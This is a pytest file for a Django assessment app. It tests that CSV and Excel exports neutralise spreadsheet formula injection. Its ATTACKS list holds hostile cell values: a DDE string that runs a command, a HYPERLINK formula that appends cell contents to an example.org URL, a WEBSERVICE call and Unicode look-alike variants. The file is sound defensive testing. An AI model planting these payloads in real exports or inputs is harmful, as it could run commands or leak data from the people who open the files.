"""A project whose every text is an attack on a spreadsheet: no cell of any export is evaluated."""

import csv
import io
import re
import zipfile
from typing import Any

import pytest
from django.db.models import Value
from django.db.models.functions import Concat
from django.test import Client
from openpyxl import load_workbook

from assessments.actions.answers import AnswerInput, save_answers
from assessments.actions.assessments import submit_assessment
from assessments.models import (
    AccessLevel,
    Criticality,
    Owner,
    Project,
    Role,
    RubricVersion,
    Team,
    User,
)
from assessments.transfer.tables import read_table
from assessments.urls import urlpatterns
from tests.cast import Q2, Q3, Q4, Cast, by, closed, draft, person
from tests.everything import everything, load, project_of

ATTACKS = (
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "﹦1+1",
    "x;=1+1;y",
    "x,=1+1,y",
    "x\t=1+1",
    "x\n=1+1",
    'x;"=1+1&"";"',
    '"=1+1"',
    "\u200b=1+1",
    "\u00a0=1+1",
    "x\n\u00a0@SUM(A1)",
    "'=1+1",
    "''+1+1",
    '=HYPERLINK("http://example.org?"&A1;"look")',
    "=WEBSERVICE(CONCATENATE(A1))",
    "x;\u3000=1+1",
)
ONE_LINE = [text for text in ATTACKS if not re.search(r"[\t\n]", text)]
MARK = "=1+"
# What a spreadsheet drops or never shows, then what makes it compute.
EVALUATED = re.compile(r"[\s\"\u00ad\u200b-\u200f\u2060\ufeff]*[=+\-@＝＋－＠﹦﹢﹣﹫−]")


def rubric() -> RubricVersion:
    """Sections, items, bands and levels with titles that begin like formulas."""
    document = everything() | {"slug": "attack", "name": "=1+1 Attack"}
    titled = [*document["sections"], *(i for part in document["sections"] for i in part["items"])]
    for number, part in enumerate(titled):
        part["title"] = f"{ONE_LINE[number % len(ONE_LINE)]} {number}"
    for number, named in enumerate((*document["bands"], *document["levels"])):
        named["label"] = f"=1+{number}"
    return load(document)


@pytest.fixture
def attacked(cast: Cast) -> Project:
    """Each name around it is an attack too."""
    project = project_of(cast, rubric(), "batch", "real-time", name="=1+1;@SUM(A1)")
    owner = person("plus+owner", cast.team, AccessLevel.MEMBER, "engineer")
    User.objects.filter(pk__in=[owner.pk, cast.lead.pk]).update(name="@SUM(1+1)")
    Team.objects.filter(pk=cast.team.pk).update(name="=1+1 team")
    for named in (Role, Criticality):
        named._default_manager.update(name=Concat(Value("-1+1 "), "key"))
    Project.objects.filter(pk=project.pk).update(
        slug="attacked", description="=1+1", criticality=Criticality.objects.first()
    )
    project.refresh_from_db()
    Owner.objects.filter(project=project).update(person=owner, person_name="@SUM(1+1)")
    closed(project, Q2, "two", lead=cast.lead)
    last = draft(project, Q3, lead=cast.lead)
    keys = list(project.rubric_version.content.items)
    texts = list(ATTACKS)
    for key in keys:
        note = texts.pop() if texts else "=1+1"
        sent = {"level": "four", "note": note, "evidence": "https://example.org/?a=;=1+1,=1+1"}
        save_answers(assessment=last, inputs=[AnswerInput(key, 0, sent)], by=cast.by)
    note = "\n".join(texts)  # the rest of them, each in a line of its own
    revision = last.answers.get(item__key=keys[0]).revision
    rest = AnswerInput(keys[0], revision, {"note": note, "outcome": "failed"}, confirm=True)
    assert save_answers(assessment=last, inputs=[rest], by=cast.by).results[0].changed
    submit_assessment(assessment=last, by=by(cast.lead))
    draft(project, Q4, lead=cast.lead)
    return project


FILES = {
    "exports-projects": ("/projects.{kind}",),
    "exports-answers": (
        "/projects/attacked/assessments/2026-09-30/answers.{kind}",
        "/projects/attacked/assessments/2026-12-31/answers.{kind}",
    ),
    "exports-scores": ("/projects/attacked/scores.{kind}",),
    "exports-levels": ("/projects/attacked/levels.{kind}",),
    "owners-file": ("/projects/attacked/owners/owners.csv",),
}
PATHS = [path for paths in FILES.values() for path in paths]


def content(client: Client, path: str) -> bytes:
    response: Any = client.get(path)
    assert response.status_code == 200
    content: bytes = response.getvalue()
    return content


def test_no_table_goes_out_untested() -> None:
    tables = {
        pattern.name
        for pattern in urlpatterns
        if "<table:kind>" in str(pattern.pattern) or ".csv" in str(pattern.pattern)
    }
    assert tables == set(FILES)


@pytest.mark.parametrize("path", PATHS)
def test_no_cell_of_a_csv_file_is_evaluated_whatever_it_is_split_at(
    path: str, attacked: Project, cast: Cast, client: Client
) -> None:
    client.force_login(cast.lead)
    text = content(client, path.format(kind="csv")).decode("utf-8-sig")
    assert MARK in text
    for delimiter in ",;\t":
        rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        cells = [cell for row in rows for cell in row]
        assert cells
        assert [cell for cell in cells if EVALUATED.match(cell) and not number(cell)] == []


def number(cell: str) -> bool:
    """A negative number of ours, such as a change of -0.5."""
    return bool(re.fullmatch(r"-\d+(\.\d+)?", cell))


@pytest.mark.parametrize("path", [path for path in PATHS if "{kind}" in path])
def test_no_cell_of_a_workbook_is_evaluated(
    path: str, attacked: Project, cast: Cast, client: Client
) -> None:
    client.force_login(cast.lead)
    raw = content(client, path.format(kind="xlsx"))
    with zipfile.ZipFile(io.BytesIO(raw)) as package:
        for name in package.namelist():
            assert b"<f" not in re.sub(rb"<f(onts?|ills?|amily|ormat)\b", b"", package.read(name))
    sheet = load_workbook(io.BytesIO(raw)).worksheets[0]
    texts = [cell for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]
    assert any(MARK in str(cell.value) for cell in texts)
    for cell in texts:
        assert cell.data_type == "s", cell.value
        assert cell.hyperlink is None
        assert not EVALUATED.match(str(cell.value)), cell.value


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_what_was_stored_is_what_comes_back(
    kind: str, attacked: Project, cast: Cast, client: Client
) -> None:
    client.force_login(cast.lead)
    path = f"/projects/attacked/assessments/2026-09-30/answers.{kind}"
    found = read_table(content(client, path))
    rows = {cells["item"]: cells for _, cells in found.named(found.lines[0])}
    answers = attacked.assessments.get(as_of=Q3).answers.select_related("item")
    assert {a.item.key: a.note for a in answers} == {k: row["note"] for k, row in rows.items()}
    assert {a.item.key: a.evidence for a in answers} == {
        key: row["evidence"] for key, row in rows.items()
    }
    assert rows["base-1"]["title"] == attacked.rubric_version.content.items["base-1"].title
